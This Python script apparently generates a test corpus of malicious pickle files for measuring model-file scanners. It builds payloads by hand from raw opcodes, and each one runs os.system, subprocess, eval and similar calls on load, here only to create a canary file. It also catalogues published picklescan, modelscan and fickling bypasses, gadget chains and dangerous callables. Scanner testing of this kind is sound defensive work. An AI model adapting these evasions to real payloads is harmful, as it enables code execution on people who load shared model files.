"""Writes files that would do something if they were loaded, and MANIFEST.json that says what each one is.

    python3 malicious.py FOLDER CANARY

All that any of them ever does is to create the file CANARY or one below it, ask for the process' number, or fail. The
classes are those that scanners are measured by, with the published bypasses of picklescan, modelscan and fickling. Needs
nothing but Python 3.8 or later; the same arguments give the same bytes.
"""

import base64
import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib

folder, canary = sys.argv[1], os.path.abspath(sys.argv[2])
os.makedirs(folder, exist_ok=True)
TOUCH = "touch " + canary
PYTHON = "open(%r, 'w').close()" % canary
manifest = {}


def put(name, content, kind, about=""):
    """Writes a file, or a folder of files where `content` is a dictionary."""
    path = os.path.join(folder, name)
    for inner, data in content.items() if isinstance(content, dict) else [("", content)]:
        target = os.path.join(path, inner) if inner else path
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "wb") as file:
            file.write(data)
    assert name not in manifest, name
    manifest[name] = {"class": kind, "about": about}


# Pickles by hand


def text(value):
    data = value.encode("utf-8", "surrogatepass")
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data


def value(item):
    """An argument in protocol 4; bytes are instructions already."""
    if isinstance(item, bytes):
        return item
    if isinstance(item, str):
        return text(item)
    return pickle.dumps(item, 2)[2:-1]


def named(module, name):
    return text(module) + text(name) + b"\x93"


def arguments(items):
    return b"(" + b"".join(value(item) for item in items) + b"t"


def call(module, name, *items):
    return named(module, name) + arguments(items) + b"R"


def raw(data):
    """Bytes as an argument."""
    return b"B" + struct.pack("<I", len(data)) + data


def whole(*instructions, protocol=4):
    return b"\x80" + bytes([protocol]) + b"".join(instructions) + b"."


def system(*, protocol=4):
    return whole(call("os", "system", TOUCH), protocol=protocol)


# 1. Every way to write a call

line = TOUCH.encode()
OPCODES = {
    "protocol-0-global": b"cos\nsystem\np0\n(S'" + line + b"'\np1\ntp2\nRp3\n.",
    "protocol-0-python2": b"c__builtin__\neval\n(V" + ("__import__('os').system(%r)" % TOUCH).encode() + b"\ntR.",
    "protocol-1-global": b"cos\nsystem\nq\x00(X" + struct.pack("<I", len(line)) + line + b"tR.",
    "protocol-2-global": b"\x80\x02cposix\nsystem\n" + b"X" + struct.pack("<I", len(line)) + line + b"\x85R.",
    "protocol-3-global": b"\x80\x03cos\nsystem\n" + b"X" + struct.pack("<I", len(line)) + line + b"\x85R.",
    "protocol-4-stack-global": system(),
    "protocol-4-framed": b"\x80\x04\x95" + struct.pack("<Q", len(system()) - 2) + system()[2:],
    "protocol-5-stack-global": system(protocol=5),
    "inst": b"(S'" + line + b"'\nios\nsystem\n.",
    "obj": b"(cos\nsystem\nS'" + line + b"'\no.",
    "obj-pty-spawn": b"(cpty\nspawn\n](S'touch'\nS'" + canary.encode() + b"'\neo.",
    "newobj": whole(named("subprocess", "Popen") + b"](" + text("touch") + text(canary) + b"e\x85\x81"),
    "newobj-ex": whole(named("subprocess", "Popen") + b")}" + text("args") + text(TOUCH) + b"s" + text("shell") + b"\x88s\x92"),
    "build-on-module-object": whole(named("os", "environ") + b"}" + text("PATH") + text(canary) + b"sb"),
    "build-on-class": whole(named("sklearn.svm._classes", "SVC") + b"N}" + text("predict") + named("os", "getpid") + b"s\x86b"),
    "setitem-on-global": whole(named("os", "environ") + text("X") + text(canary) + b"s"),
    "setitems-on-modules": whole(named("sys", "modules") + b"(" + text("json") + named("os", "path") + b"u"),
    "append-to-path": whole(named("sys", "path") + text(canary) + b"a"),
    "appends-to-path": whole(named("sys", "path") + b"(" + text(canary) + b"e"),
    "additems": whole(named("os", "supports_fd") + b"(" + text(canary) + b"\x90"),
    "result-popped": whole(call("os", "system", TOUCH) + b"0N"),
    "result-pop-mark": whole(b"(" + call("os", "system", TOUCH) + b"1N"),
    "in-dictionary": whole(b"}" + text("weights") + call("os", "system", TOUCH) + b"s"),
    "in-tuple-of-list": whole(b"]" + call("os", "system", TOUCH) + b"\x85a"),
    "as-dictionary-key": whole(b"}" + call("os", "system", TOUCH) + b"Ns"),
    "result-called": whole(call("builtins", "getattr", named("os", "path"), "os") + b")R"),
    "imported-only": whole(named("os", "system")),
    "import-of-a-package": whole(named("antigravity", "webbrowser")),
    "import-this": b"\x80\x02cthis\ns\n.",
}
for name, content in OPCODES.items():
    put("opcodes/%s.pkl" % name, content, "opcodes")

# 2. Names that are put together

memoize, long_put = b"\x94", lambda n: b"r" + struct.pack("<I", n)
NAMES = {
    "memo-binput": text("os") + b"q\x000" + text("system") + b"q\x010h\x00h\x01\x93",
    "memo-put-decimal": text("os") + b"p7\n0" + text("system") + b"p8\n0g7\ng8\n\x93",
    "memo-far": text("os") + long_put(70000) + b"0" + text("system") + long_put(9) + b"0j" + struct.pack("<I", 70000) + b"h\x09\x93",
    # picklescan issue 14: PUT and MEMOIZE mixed, so that a scanner that counts only one of them sees other names.
    "memo-put-and-memoize": text("os") + b"q\x00" + text("system") + b"q\x01" + text("torch._utils") + memoize
    + text("_rebuild_tensor_v2") + memoize + b"0000h\x00h\x01\x93",
    "memo-overwritten": text("math") + b"q\x000" + text("os") + b"q\x000" + text("system") + b"q\x010h\x00h\x01\x93",
    # picklescan issue 22: STACK_GLOBAL whose names don't stand before it.
    "dup": text("system") + b"q\x050" + text("os") + b"20h\x05\x93",
    "other-values-between": text("os") + text("system") + text("math") + text("floor") + b"00\x93",
    "pop-mark-between": text("os") + text("system") + b"(" + text("math") + text("floor") + b"1\x93",
    "short-binstring": b"U\x02osU\x06system\x93",
    "binstring": b"T\x02\x00\x00\x00osT\x06\x00\x00\x00system\x93",
    "binunicode8": b"\x8d" + struct.pack("<Q", 2) + b"os\x8d" + struct.pack("<Q", 6) + b"system\x93",
    "string-escapes": b"S'o\\x73'\nS'\\x73ys\\164em'\n\x93",
    "unicode-escapes": b"Vo\\u0073\nVs\\u0079stem\n\x93",
    "string-double-quotes": b"S\"os\"\nS\"system\"\n\x93",
    "dotted": named("shutil", "os.system"),
    "dotted-through-sklearn": named("sklearn.base", "os.system"),
    "dotted-through-numpy": named("numpy", "os.system"),
    "dotted-through-joblib": named("joblib.numpy_pickle", "os.system"),
    "dotted-globals": named("sklearn.svm._classes", "SVC.__init__.__globals__"),
    "module-with-newline-name": b"cposix\nsystem\n",
    "computed-module": call("builtins", "str", "os") + text("system") + b"\x93",
    "computed-name": text("os") + call("builtins", "str", "system") + b"\x93",
    "tuple-member": text("os") + text("system") + b"\x86q\x000" + text("os") + text("system") + b"\x93",
}
for name, content in NAMES.items():
    put("names/%s.pkl" % name, whole(content + arguments([TOUCH]) + b"R"), "names")
put("names/ext1.pkl", b"\x80\x02\x82\x01(S'" + line + b"'\ntR.", "extension codes")
put("names/ext2.pkl", b"\x80\x02\x83\x01\x02)R.", "extension codes")
put("names/ext4.pkl", b"\x80\x02\x84\x01\x02\x03\x00)R.", "extension codes")
put("names/ext-registered.pkl", whole(call("copyreg", "add_extension", "os", "system", 7) + b"0\x82\x07" + arguments([TOUCH]) + b"R"),
    "extension codes")
put("names/persid.pkl", b"Pevil\n0cos\nsystem\n(S'" + line + b"'\ntR.", "persistent ids")
put("names/binpersid.pkl", whole(text("evil") + b"Q0" + call("os", "system", TOUCH)), "persistent ids")
put("names/binpersid-of-a-call.pkl", whole(call("os", "system", TOUCH) + b"Q"), "persistent ids")
put("names/next-buffer.pkl", whole(b"\x97\x98" + call("os", "system", TOUCH), protocol=5), "persistent ids")

# Permitted names that do something else where they are put together


def partial(function, *given, **keywords):
    """As pickle writes it: what is kept comes in the state."""
    state = b"(" + function + arguments(given) + b"}" + b"".join(text(key) + value(item) + b"s" for key, item in keywords.items()) + b"Nt"
    return call("functools", "partial", named("builtins", "len")) + state + b"b"


def always(item):
    """A function that returns the same whatever it is given."""
    return partial(named("builtins", "min"), item, key=named("numpy", "ndim"))


def made(module, name, **attributes):
    return named(module, name) + b")\x81}" + b"".join(text(key) + value(item) + b"s" for key, item in attributes.items()) + b"b"


def chained(factory):
    """A dictionary of a chain in which one asks the factory for what it lacks."""
    return call("builtins", "dict", call("collections", "ChainMap", call("collections", "defaultdict", factory), pickle.dumps({"a": 1}, 2)[2:-1]))


QUERY = "@np.f2py.os.system(%r)" % TOUCH
frame = made("pandas.core.frame", "DataFrame")
nearest = made("scipy.interpolate._ndgriddata", "NearestNDInterpolator", tree=frame, _scale_x=always(QUERY))
GADGETS = {
    "always-the-same": always(QUERY), "always-the-same-object": always(frame), "always-the-greatest": partial(named("builtins", "max"), named("numpy", "sum"), key=named("numpy", "size")),
    "kept-by-the-call": call("functools", "partial", named("builtins", "min"), QUERY), "partial-of-an-object": partial(nearest, 1), "partial-of-a-partial": partial(always(1), 1),
    "frame-as-tree": nearest, "function-as-method": made("scipy.interpolate._ndgriddata", "NearestNDInterpolator", _scale_x=named("numpy", "sum")),
    "factory-of-an-object": call("collections", "defaultdict", nearest), "dictionary-of-a-chain": chained(named("numpy", "sum")),
    "counter-of-a-chain": call("collections", "Counter", call("collections", "ChainMap", call("collections", "defaultdict", named("numpy", "sum")))),
    "vectorizer-by-another-maker": call("sklearn.neighbors._ball_tree", "newObj", named("sklearn.feature_extraction.text", "TfidfVectorizer")) + b"}" + text("input") + text("filename") + b"sb",
    "zone": b"cpandas._libs.tslibs.timestamps\nTimestamp\n(V2020-01-01\nt}Vtz\nVdateutil/" + canary.encode() + b"\ns\x92",
    "zone-in-escapes": b"cpandas._libs.tslibs.timestamps\nTimestamp\n(V2020-01-01\nt}Vtz\nV\\u0064ateutil/" + canary.encode() + b"\ns\x92",
    "zone-outside": b"cpandas._libs.tslibs.timestamps\nTimestamp\n(V2020-01-01\nt}Vtz\nVdateutil/../../.." + canary.encode() + b"\ns\x92",
}
for name, content in GADGETS.items():
    put("gadgets/%s.pkl" % name, whole(content), "permitted names put to other uses")

# 3. Pickles in, behind and around pickles; damaged ones that act before they fail

inner = system()
benign = pickle.dumps({"weights": [1.0, 2.0]}, 4)
STREAMS = {
    "second-of-two": benign + inner,
    "third-of-three": benign + pickle.dumps(3, 2) + inner,
    "nested-loads": whole(call("pickle", "loads", raw(inner))),
    "nested-c-loads": whole(call("_pickle", "loads", raw(inner))),
    "nested-unpickler": whole(call("_pickle", "Unpickler", call("io", "BytesIO", raw(inner)))),
    "nested-load-bytesio": whole(call("pickle", "load", call("_io", "BytesIO", raw(inner)))),
    "nested-torch-bytes": whole(call("torch.storage", "_load_from_bytes", raw(inner))),
    "nested-joblib-load": whole(call("joblib.numpy_pickle", "load", "other.joblib")),
    "nested-pandas": whole(call("pandas.io.pickle", "read_pickle", "other.pkl")),
    "nested-numpy-load": whole(call("numpy", "load", "other.npy", b"N", b"\x88")),
    "nested-dill": whole(call("dill._dill", "loads", raw(inner))),
    # GHSA-9gvj-pp9x-gcfr and others: what follows the call is no pickle, so that a scanner gives up; Python has run it.
    "broken-opcode-after": whole(call("os", "system", TOUCH))[:-1] + b"\xff.",
    "truncated-after": whole(call("os", "system", TOUCH))[:-1],
    "truncated-text-after": whole(call("os", "system", TOUCH))[:-1] + b"\x8c\xffabc",
    "underflow-after": whole(call("os", "system", TOUCH))[:-1] + b"0000R.",
    "missing-memo-after": whole(call("os", "system", TOUCH))[:-1] + b"h\x77.",
    "bad-utf8-after": whole(call("os", "system", TOUCH))[:-1] + b"\x8c\x02\xff\xfe.",
    "bad-number-after": whole(call("os", "system", TOUCH))[:-1] + b"Inot\n.",
    "unknown-protocol-after": whole(call("os", "system", TOUCH))[:-1] + b"\x80\x09.",
    "frame-past-end": b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + inner[2:],
    "frame-too-short": b"\x80\x04\x95" + struct.pack("<Q", 3) + inner[2:],
    "second-broken": benign + inner[:-1] + b"\xff",
    "junk-behind": inner + b"\x00" * 100,
    "protocol-twice": b"\x80\x02\x80\x04" + inner[2:],
    "protocol-late": b"N0\x80\x04" + inner[2:],
    "without-protocol": inner[2:],
    "zeros-before-stop": inner[:-1] + b"N0" * 50 + b".",
    "deep": b"\x80\x04" + b"(" * 5000 + call("os", "system", TOUCH) + b"t" * 5000 + b".",
    "late": b"\x80\x04](" + b"K\x01" * 300000 + call("os", "system", TOUCH) + b"e.",
    "line-without-end": b"cos\nsystem\n(S'" + line + b"'\ntRcjson",
}
for name, content in STREAMS.items():
    put("streams/%s.pkl" % name, content, "nested, concatenated and broken pickles")

# 4. Names that the scanners' lists lacked. Sources: picklescan's advisories (GHSA-655q-fx9r-782v, -769v-p64c-89pr, -m273-6v24-
# x4m4, -4675-36f9-wf6r, -84r2-jw7c-4r5q, -vqmv-47xg-9wpr, -hgrh-qx5j-jfwx, -r8g5-cgf2-4m4m, -x843-g5mx-g377, -3329-ghmp-jmv5,
# -cffc-mxrf-mhh4, -rrxm-2pvv-m66x, -6556-fwc2-fg2p, -f7qq-56ww-84cr, -mjqp-26hc-grxg, -jgw4-cr84-mqxg, -955r-x9j8-7rhh, -46h3-79wf-
# xr6c, -v7x6-rv5q-mhwc, -xp4f-hrf8-rxw7, -7wx9-6375-f5wh, -vvpj-8cmc-gx39, -g38g-8gr9-h9xp), CVE-2025-1716, -10155, -10156, -10157,
# fickling issues 16, 108, 190, 302 and modelscan issue 311.

PUBLISHED = """
builtins.eval PY|builtins.exec PY|builtins.compile PY x exec|builtins.open OUT w|builtins.__import__ os|builtins.breakpoint
builtins.getattr os|builtins.input x|builtins.setattr x y z|builtins.delattr x y|builtins.globals|builtins.vars|builtins.memoryview B
__builtin__.eval PY|__builtin__.execfile OUT|__builtin__.apply x|__builtin__.file OUT w|__builtin__.reload x
os.system CMD|os.popen CMD|os.execl /bin/true true|os.spawnlp 0 true true|os.posix_spawn /bin/true L D|os.remove OUT|os.mkdir OUT
os.unlink OUT|os.rename OUT OUT|os.kill 0 0|os._exit 0|os.putenv A B|os.startfile OUT|os.listdir .|os.getpid
posix.system CMD|posix.popen CMD|posix.fork|posix.execv /bin/true L|nt.system CMD|posix.open OUT 65
subprocess.call CMD|subprocess.run CMD|subprocess.Popen CMD|subprocess.check_output CMD|subprocess.getoutput CMD|subprocess.getstatusoutput CMD
commands.getoutput CMD|commands.getstatusoutput CMD|popen2.popen2 CMD
sys.exit 0|sys.settrace N|sys.setprofile N|socket.create_connection L|socket.socket|_socket.socket|ssl.get_server_certificate L
shutil.rmtree OUT|shutil.copy OUT OUT|shutil.move OUT OUT|shutil.unpack_archive OUT
runpy.run_path OUT|runpy._run_code PY|runpy.run_module os|importlib.import_module os|importlib.reload os|importlib._bootstrap._call_with_frames_removed PY
importlib.util.spec_from_file_location x OUT|importlib.machinery.SourceFileLoader x OUT|imp.load_source x OUT|imp.load_dynamic x OUT|zipimport.zipimporter OUT
pkgutil.resolve_name os:system|pkgutil.get_data os x|code.interact|code.InteractiveInterpreter|code.InteractiveConsole|codeop.compile_command PY
pty.spawn CMD|pip.main L|pip._internal.main L|pip._internal.cli.main.main L|ensurepip._run_pip L|ensurepip.bootstrap|venv.create OUT
webbrowser.open x|antigravity.geohash 1 2 B|ctypes.CDLL OUT|ctypes.util._findLib_gcc OUT|_ctypes.dlopen OUT|cffi.FFI
asyncio.subprocess.create_subprocess_shell CMD|asyncio.unix_events._UnixSubprocessTransport._start CMD|asyncio.unix_events._UnixSubprocessTransport CMD
multiprocessing.Process|multiprocessing.util.spawnv_passfds OUT L L|multiprocessing.popen_fork.Popen N|concurrent.futures.process.ProcessPoolExecutor
pickle.loads B|pickle.load N|_pickle.load N|_pickle.loads B|cPickle.loads B|marshal.loads B|marshal.load N|shelve.open OUT|dill.loads B|cloudpickle.loads B
timeit.timeit PY|timeit.main L|cProfile.run PY|cProfile.runctx PY D D|profile.run PY|profile.runctx PY D D|profile.Profile.run PY|profile.Profile.runctx PY D D
trace.Trace.run PY|trace.Trace.runctx PY D D|pdb.run PY|pdb.runeval PY|bdb.Bdb.run PY|bdb.Bdb.runeval PY|bdb.Bdb|pdb.Pdb|doctest.debug_script PY
idlelib.autocomplete.AutoComplete.get_entity PY|idlelib.autocomplete.AutoComplete.fetch_completions PY|idlelib.calltip.get_entity PY
idlelib.calltip.Calltip.fetch_tip PY|idlelib.debugobj.ObjectTreeItem.SetText PY|idlelib.pyshell.ModifiedInterpreter.runcode PY
idlelib.pyshell.ModifiedInterpreter.runcommand PY|idlelib.run.Executive.runcode PY
lib2to3.pgen2.grammar.Grammar.loads B|lib2to3.pgen2.pgen.ParserGenerator.make_label PY
distutils.file_util.write_file OUT L|distutils.spawn.spawn L|setuptools._distutils.file_util.write_file OUT L|_io.FileIO OUT w|io.open OUT w|io.FileIO OUT w|_io.open OUT w
logging.FileHandler OUT|logging.config.listen|logging.config._resolve os|tempfile.NamedTemporaryFile|tempfile.mktemp|pathlib.Path.write_text OUT x|pathlib.PosixPath.unlink OUT
linecache.getlines OUT|linecache.updatecache OUT|fileinput.input OUT|gzip.open OUT w|bz2.open OUT w|lzma.open OUT w|tarfile.open OUT w|zipfile.ZipFile OUT w|sqlite3.connect OUT
codecs.open OUT w|codecs.decode B zlib|_codecs.decode B zlib|mmap.mmap 0 1|platform.popen CMD|platform._syscmd_file OUT|getpass.getpass|cgitb.lookup x
uuid._get_command_stdout touch OUT|uuid._popen CMD|imaplib.IMAP4_stream CMD|_pyrepl.pager.pipe_pager x CMD|_pyrepl.pager.tempfile_pager x CMD
_osx_support._read_output CMD|_osx_support._find_build_tool CMD|_aix_support._read_cmd_output CMD|test.support.script_helper.assert_python_ok x
http.client.HTTPSConnection x|http.server.HTTPServer L N|httplib.HTTPConnection x|urllib.request.urlopen file:///dev/null|urllib.request.urlretrieve x OUT
requests.get x|requests.api.get x|aiohttp.client.ClientSession|urllib3.PoolManager|ftplib.FTP x|smtplib.SMTP x|telnetlib.Telnet x|poplib.POP3 x|xmlrpc.client.ServerProxy x
operator.attrgetter system|operator.itemgetter x|operator.methodcaller system CMD|_operator.attrgetter system|_operator.itemgetter x|_operator.methodcaller system CMD
functools.partial N|functools.reduce N L|_functools.reduce N L|itertools.starmap N L|builtins.map N L|builtins.filter N L|types.FunctionType N D|types.CodeType 0|types.MethodType N N|types.ModuleType x
_xxsubinterpreters.run_string 0 PY|_interpreters.create|_interpreters.run_string 0 PY|_testcapi.run_in_subinterp PY|_posixsubprocess.fork_exec L|_winapi.CreateProcess x
signal.raise_signal 0|resource.setrlimit 0 L|faulthandler._sigsegv|atexit.register N|threading.Thread|_thread.start_new_thread N L|weakref.finalize N N|gc.get_objects
copyreg.pickle N N|copyreg.constructor N|copyreg.add_extension os system 9|copy.deepcopy x|inspect.getsource x|site.main|site.addpackage OUT x D|sysconfig.get_config_var x
smtpd.SMTPServer L|nturl2path.url2pathname x|xml.sax.parse OUT|json.load N|csv.DictReader N|configparser.ConfigParser|turtle.config_dict OUT|turtledemo.main|pydoc.pipepager x CMD
pydoc.locate os.system|pydoc.tempfilepager x CMD|unittest.main|unittest.loader.TestLoader.loadTestsFromName x|zipapp.create_archive OUT|compileall.compile_file OUT|py_compile.compile OUT
numpy.load OUT|numpy.save OUT L|numpy.loadtxt OUT|numpy.savetxt OUT L|numpy.fromfile OUT|numpy.memmap OUT|numpy.genfromtxt OUT|numpy.lib.npyio.load OUT|numpy.lib.npyio.DataSource OUT
numpy.f2py.crackfortran.getlincoef PY D|numpy.f2py.crackfortran._eval_length PY D|numpy.f2py.crackfortran.param_eval PY D D D|numpy.f2py.crackfortran.myeval PY|numpy.f2py.diagnose.run_command CMD|numpy.f2py.compile PY
numpy.testing._private.utils.runstring PY D|numpy.testing.runstring PY D|numpy.testing.measure PY|numpy.distutils.exec_command.exec_command CMD|numpy.ctypeslib.load_library x OUT
numpy.vectorize N|numpy.frompyfunc N 1 1|numpy.apply_along_axis N 0 L|numpy.piecewise L L L|numpy.lib.format.open_memmap OUT|numpy.lib.format.read_array N|numpy.core.records.fromfile OUT
scipy.io.loadmat OUT|scipy.stats._distn_infrastructure.rv_generic|scipy.stats._distn_infrastructure.rv_frozen|scipy.LowLevelCallable N|scipy.optimize.minimize N L|scipy.integrate.quad N 0 1
pandas.eval PY|pandas.core.computation.eval.eval PY|pandas.read_pickle OUT|pandas.read_csv OUT|pandas.io.common.get_handle OUT w|pandas.io.parsers.readers.read_csv OUT|pandas.io.clipboard.clipboard_get
pandas.core.frame.DataFrame.query PY|pandas.core.frame.DataFrame.eval PY|pandas.core.frame.DataFrame.to_pickle OUT|pandas._testing.network N|pandas.util._print_versions.show_versions
sklearn.datasets._base.load_files OUT|sklearn.datasets._base._fetch_remote x OUT|sklearn.datasets._openml._open_openml_url x|sklearn.utils._testing.TempMemmap L|sklearn.utils.fixes._open_text OUT
sklearn.externals.joblib.load OUT|sklearn.externals.joblib.numpy_pickle.load OUT|sklearn.utils._show_versions.show_versions|sklearn.base.clone N|sklearn.utils.parallel.delayed N|sklearn.utils.metaestimators.available_if N
sklearn.base.os.system CMD|sklearn.utils.discovery.all_estimators|sklearn.experimental.enable_halving_search_cv.x|sklearn.tree._export.export_graphviz N OUT|sklearn.inspection._pd_utils._get_feature_index 0
joblib.load OUT|joblib.dump x OUT|joblib.memory.Memory OUT|joblib.parallel.Parallel|joblib.numpy_pickle.load OUT|joblib.numpy_pickle_utils._detect_compressor N|joblib.externals.loky.backend.popen_loky_posix.Popen N
joblib.externals.cloudpickle.cloudpickle._make_function N|joblib.externals.cloudpickle.cloudpickle.subimport os|joblib.externals.loky.process_executor._process_worker N|joblib._store_backends.FileSystemStoreBackend
cloudpickle.cloudpickle._builtin_type CodeType|cloudpickle.cloudpickle._make_function N|cloudpickle.cloudpickle.subimport os|dill._dill._create_function N|dill._dill._import_module os|dill._dill._eval_repr PY
torch.load OUT|torch.hub.load x x|torch.hub._load_local OUT x|torch.hub.load_state_dict_from_url x|torch.save L OUT|torch.jit.load OUT|torch._C.import_ir_module OUT|torch.classes.load_library OUT|torch.ops.load_library OUT
torch.utils.collect_env.run CMD|torch.utils.collect_env.run_and_read_all N CMD|torch.utils.bottleneck.__main__.run_cprofile PY D|torch.utils.bottleneck.__main__.run_autograd_prof PY D|torch.utils._config_module.ConfigModule.load_config B
torch.utils._config_module.load_config B|torch._dynamo.guards.GuardBuilder.get PY|torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression PY|torch.jit.unsupported_tensor_ops.execWrapper PY D D
torch.utils.data.datapipes.utils.decoder.basichandlers x B|torch.distributed.rpc.rpc_sync x|torch.storage._load_from_bytes B|torch._utils._rebuild_from_type_v2 N N L N|torch.multiprocessing.spawn N|torch.package.PackageImporter OUT
torch.utils.cpp_extension.load x OUT|torch.utils.cpp_extension.load_inline x PY|torch._inductor.codecache.compile_file OUT OUT CMD|torch.fx._symbolic_trace.Tracer|torch.fx.graph_module.reduce_graph_module D PY|torch.fx.graph_module._exec_with_source PY D
torch.nn.parallel.distributed._create_unit N|torch.nn.modules.module.torch.load OUT|torch.serialization.load OUT|torch.from_file OUT|torch.UntypedStorage.from_file OUT|torch._C._jit_pass_x N
tensorflow.io.read_file OUT|tensorflow.python.ops.script_ops.py_func N|keras.utils.get_file x|keras.src.saving.saving_lib.load_model OUT|keras.models.load_model OUT|keras.config.enable_unsafe_deserialization
transformers.AutoModel.from_pretrained x|transformers.dynamic_module_utils.get_class_in_module x OUT|transformers.utils.hub.cached_file x|lightgbm.basic.Booster N OUT|xgboost.core._LIB|catboost.core._load_from_file OUT
category_encoders.utils.os.system CMD|imblearn.utils.testing.all_estimators|skops.io.load OUT|mlflow.pyfunc.load_model OUT|onnxruntime.InferenceSession OUT|numba.core.serialize._unpickle__CustomPickled B|IPython.core.interactiveshell.InteractiveShell
mlflow.projects.backend.local._run_entry_point CMD .|pipes.Template|_interpreters.exec 0 PY|posix.posix_spawn /bin/true L D|test.support.os_helper.unlink OUT
torch.fx.Interpreter.run N|string.Formatter.get_field x L D|re.sub x N x|concurrent.futures._base.Future.add_done_callback N N|types.resolve_bases L|inspect.getattr_static N x
fickling.loader.load N|nltk.data.load OUT|nltk.app.wordnet_app.app|django.core.management.execute_from_command_line L|flask.helpers.send_file OUT|jinja2.environment.Template PY|yaml.unsafe_load PY|rich.console.Console|
""".replace("\n", "|").strip("|").split("|")

ARGUMENTS = {"CMD": TOUCH, "PY": PYTHON, "OUT": canary, "N": b"N", "L": b"]", "D": b"}", "B": raw(inner)}
for entry in PUBLISHED:
    words = entry.split()
    if not words:
        continue
    parts = words[0].split(".")
    # The module is what starts in lower case; a class and what follows are the name.
    split = next((i for i, part in enumerate(parts) if i and part[0].isupper()), len(parts) - 1)
    module, name = ".".join(parts[:split]), ".".join(parts[split:])
    items = [ARGUMENTS.get(word, int(word) if word.isdigit() else word) for word in words[1:]]
    put("published/%s.pkl" % words[0], whole(call(module, name, *items)), "published bypasses and other names beyond the lists")

# 5. Permitted names put to other uses

get = lambda *path: call("builtins", "getattr", *path)
partial = lambda *items: call("functools", "partial", *items)
memmap = named("numpy", "memmap")
USES = {
    "getattr-chain": get(get(named("shutil", "os"), "system"), "__call__") + arguments([TOUCH]) + b"R",
    "attrgetter": call("operator", "attrgetter", "system") + arguments([named("os", "path")]) + b"R",
    "methodcaller": call("operator", "methodcaller", "system", TOUCH) + arguments([named("posixpath", "os")]) + b"R",
    "partial-called": partial(named("os", "system"), TOUCH) + b")R",
    "partial-build": named("functools", "partial") + b")\x81(" + named("os", "system") + text(TOUCH) + b"\x85}NtbR",
    "defaultdict-factory": call("collections", "defaultdict", named("os", "getpid")),
    "defaultdict-partial": call("collections", "defaultdict", partial(named("os", "system"), TOUCH)),
    "ordered-dict-of-map": call("collections", "OrderedDict", call("builtins", "map", named("os", "system"), b"](" + text(TOUCH) + b"e")),
    "set-of-map": call("builtins", "set", call("builtins", "map", named("os", "system"), b"](" + text(TOUCH) + b"e")),
    "type-made": call("builtins", "type", "X", b")", b"}" + text("__init__") + named("os", "system") + b"s") + arguments([TOUCH]) + b"R",
    "code-object": call("types", "FunctionType", call("types", "CodeType", 0), b"}"),
    "ufunc-by-name": call("numpy.core", "_ufunc_reconstruct", "os", "system") + arguments([TOUCH]) + b"R",
    "ufunc-by-name-new": call("numpy._core", "_ufunc_reconstruct", "os", "system") + arguments([TOUCH]) + b"R",
    "codec-zlib": call("_codecs", "encode", "x", "zlib"),
    "codec-lookup": call("_codecs", "lookup", "zlib"),
    "scalar-of-object": call("numpy.core.multiarray", "scalar", call("numpy", "dtype", "O8", b"\x89", b"\x88"), call("os", "getpid")),
    "generator-maker": call("numpy.random._pickle", "__randomstate_ctor", TOUCH, named("os", "system")),
    "generator-maker-of-named": call("numpy.random._pickle", "__generator_ctor", canary, named("numpy", "percentile")),
    "generator-maker-memmap": call("numpy.random._pickle", "__bit_generator_ctor", memmap),
    "new-index-memmap": call("pandas.core.indexes.base", "_new_Index", memmap, b"}(" + text("filename") + text(canary) + text("mode")
                             + text("w+") + text("shape") + b"K\x08u"),
    "new-index-function": call("pandas.core.indexes.base", "_new_Index", named("numpy", "percentile"), b"}"),
    "reconstructor-memmap": call("copyreg", "_reconstructor", memmap, named("builtins", "object"), b"N"),
    "reconstructor-base": call("copyreg", "_reconstructor", named("builtins", "dict"), memmap, text(canary)),
    "newobj-function": call("copyreg", "__newobj__", memmap, canary, "uint8", "w+"),
    "newobj-ex-function": call("copyreg", "__newobj_ex__", memmap, b"(" + text(canary) + b"t", b"}"),
    "newobj-estimator-arguments": named("lightgbm.basic", "Booster") + arguments([b"N", b"N", canary]) + b"\x81",
    "booster-reads-file": call("xgboost.core", "Booster", b"N", b")", canary),
    "booster-reads-file-lightgbm": call("lightgbm.basic", "Booster", b"N", b"N", canary),
    "estimator-called": call("sklearn.pipeline", "Pipeline", b"]"),
    "metric-called": call("sklearn.metrics._classification", "accuracy_score", b"]", b"]"),
    "ufunc-called": call("numpy", "log1p", b"K\x01"),
    "rebuild-from-type": call("torch._utils", "_rebuild_from_type_v2", named("os", "system"), named("torch", "Tensor"), arguments([TOUCH]), b"N"),
    "rebuild-wrapper": call("torch._tensor", "_rebuild_from_type_v2", named("os", "system"), named("torch", "Tensor"), arguments([TOUCH]), b"N"),
    "parameter-called": call("torch._utils", "_rebuild_parameter", call("os", "getpid"), b"\x89", b"}"),
    "bunch-reduce": named("sklearn.utils", "Bunch") + b")\x81}" + text("__class__") + named("subprocess", "Popen") + b"sb",
    "state-with-evil": named("sklearn.svm._classes", "SVC") + b")\x81}" + text("kernel") + named("os", "system") + b"sb",
    "function-transformer": named("sklearn.preprocessing._function_transformer", "FunctionTransformer") + b")\x81}" + text("func")
    + named("os", "system") + b"sb",
    "function-transformer-eval": named("sklearn.preprocessing._function_transformer", "FunctionTransformer") + b")\x81}" + text("func")
    + named("builtins", "eval") + b"sb",
    "function-transformer-load": named("sklearn.preprocessing._function_transformer", "FunctionTransformer") + b")\x81}" + text("func")
    + named("numpy", "load") + b"sb",
    "slot-state-on-class": named("sklearn.base", "BaseEstimator") + b"N}" + text("__setstate__") + named("os", "system") + b"s\x86b",
    "build-then-call": named("sklearn.svm._classes", "SVC") + b")\x81" + b"}b" + arguments([TOUCH]) + b"R",
    "arguments-made-by-tuple": named("numpy.random._pickle", "__randomstate_ctor")
    + call("builtins", "tuple", b"](" + text(TOUCH) + named("numpy", "percentile") + b"e") + b"R",
    "ndarray-subclass": call("numpy.core.multiarray", "_reconstruct", named("subprocess", "Popen"), b"(K\x00t", raw(b"b")),
    "masked-array": call("numpy.ma.core", "_mareconstruct", memmap, named("numpy", "ndarray"), b"(K\x00t", raw(b"b")),
    "cython-unpickle": call("sklearn._loss._loss", "__pyx_unpickle_CyHalfSquaredError", memmap, b"K\x01", b"N"),
    "python2-unicode-module": b"c__builtin__\ngetattr\n" + arguments([named("os", "path"), "os"]) + b"R",
